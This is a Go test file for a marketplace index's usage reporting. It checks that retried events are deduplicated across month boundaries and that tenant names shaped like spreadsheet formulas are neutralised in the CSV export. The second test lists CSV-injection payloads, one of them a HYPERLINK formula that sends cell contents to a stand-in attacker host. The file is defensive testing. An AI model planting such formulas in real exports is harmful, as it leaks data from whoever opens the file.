package index_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/connectsoft/marketplace/index"

	"github.com/connectsoft/marketplace/index/client"
	"github.com/connectsoft/marketplace/index/store"
	"github.com/connectsoft/marketplace/index/store/storetest"
)

// Regression (a reviewer's attack): an install report resent with the same source and id (a retry whose
// time moved, e.g. a client that leaves time out and retries across
// midnight at a month's end) is the same event: issue 12 says reports
// are idempotent by event id and duplicates count once.
func TestUsageSameEventIDAcrossMonthsCountsOnce(t *testing.T) {
	for name, open := range map[string]func(testing.TB) store.Store{"sqlite": storetest.SQLite, "postgres": storetest.Postgres} {
		t.Run(name, func(t *testing.T) {
			w := newUsageWorld(t, open(t))
			first := install("retry-1", "1.0.0")
			first["time"] = "2026-10-31T23:59:30Z"
			again := install("retry-1", "1.0.0")
			again["time"] = "2026-11-01T00:00:10Z"
			for _, ev := range []map[string]any{first, again} {
				if code, body := w.post(t, "globex", client.CloudEventContentType, ev); code != http.StatusAccepted {
					t.Fatalf("post: %d %v", code, body)
				}
			}
			var installs int64
			for _, r := range w.usage(t, "ops", client.UsageQuery{From: "2026-10-01", Granularity: "month"}) {
				installs += r.Installs
			}
			if installs != 1 {
				t.Fatalf("the event retry-1 of source urn:test:factory counted %d installs, want 1 (sent twice, its time a minute apart across a month's end)", installs)
			}
		})
	}
}

// A tenant is any string a token was made for, so a tenant named like a
// spreadsheet formula reaches the usage CSV the acme publisher downloads
// and opens: each such cell starts with a single quote (OWASP CSV
// injection), the JSON answer keeps the name as it is, and the CSV still
// parses to the name behind the quote.
func TestUsageCSVNeutralisesFormulaTenants(t *testing.T) {
	w := newUsageWorld(t, storetest.SQLite(t))
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(1+1)", "\tx", "\rx"}
	for i, tenant := range evil {
		c, err := index.CreateToken(context.Background(), w.st, tenant, []string{"reader"}, time.Time{})
		if err != nil {
			t.Fatal(err)
		}
		w.tokens[tenant] = c.Secret
		if code, body := w.post(t, tenant, client.CloudEventContentType, install(fmt.Sprint("evil-", i), "1.0.0")); code != http.StatusAccepted {
			t.Fatalf("post as %q: %d %v", tenant, code, body)
		}
	}
	var b bytes.Buffer
	if err := w.client("acme-publisher").UsageCSV(context.Background(), client.UsageQuery{From: "2026-11", Granularity: "month"}, &b); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, b.String())
	}
	got := map[string]bool{}
	for _, r := range records[1:] {
		if strings.ContainsRune("=+-@\t\r", rune(r[1][0])) {
			t.Errorf("tenant cell %q starts a formula", r[1])
		}
		got[r[1]] = true
	}
	for _, tenant := range evil {
		if !got["'"+tenant] {
			t.Errorf("tenant %q is not in the CSV as '%s: %q", tenant, tenant, records)
		}
	}
	var raw int
	for _, r := range w.usage(t, "acme-publisher", client.UsageQuery{From: "2026-11", Granularity: "month"}) {
		if slices.Contains(evil, r.Tenant) {
			raw++
		}
	}
	if raw != len(evil) {
		t.Fatalf("the JSON answer holds %d of the %d tenants as they are named", raw, len(evil))
	}
}
